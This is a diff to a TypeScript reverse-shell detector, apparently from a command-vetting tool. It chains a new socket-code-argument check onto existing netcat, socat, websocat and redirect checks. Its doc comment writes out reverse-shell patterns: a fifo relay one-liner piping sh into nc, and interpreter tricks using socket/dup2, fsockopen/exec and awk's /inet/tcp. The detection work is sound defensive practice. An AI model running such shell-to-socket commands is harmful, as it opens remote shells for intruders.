@@ -9,19 +9,27 @@
  * - a shell that reads its program from stdin beside a raw network client in the same string (the fifo relay
  *   `cat f | sh -i 2>&1 | nc h p > f`);
  * - an interpreter one-liner that opens a socket and runs a shell or rewires descriptors onto it (`socket…dup2`,
- *   `fsockopen…exec`, awk's `/inet/tcp`).
+ *   `fsockopen…exec`, awk's `/inet/tcp`), or code in a language nobody here reads with a socket, a literal
+ *   endpoint and a shell door in one argument (`jrunscript -e`, `swipl -g`: socket-code-args.ts).
  * A plain socket read or write (`echo > /dev/tcp/localhost/5432` as a port check) is not one.
  */
 import { posix } from "node:path";
 import { interpreterOf, type Redirect, type ShellFinding, type SimpleCommand, SHELLS } from "../shell/index.ts";
 import { commandsOf, findingsOf, longValues, operands, shortLetters, shown } from "./commands.ts";
 import { shellToSocket } from "./shell-to-socket.ts";
+import { socketCodeArgument } from "./socket-code-args.ts";
 import type { Check } from "./types.ts";
 
 export const reverseShell: Check = (op) => {
   const commands = commandsOf(op);
   for (const cmd of commands) {
-    const reason = socketRedirect(cmd) ?? netcatExec(cmd) ?? socatExec(cmd) ?? websocatExec(cmd) ?? shellToSocket(cmd);
+    const reason =
+      socketRedirect(cmd) ??
+      netcatExec(cmd) ??
+      socatExec(cmd) ??
+      websocatExec(cmd) ??
+      shellToSocket(cmd) ??
+      socketCodeArgument(cmd);
     if (reason !== null) return reason;
   }
   const relay = shellRelay(commands);
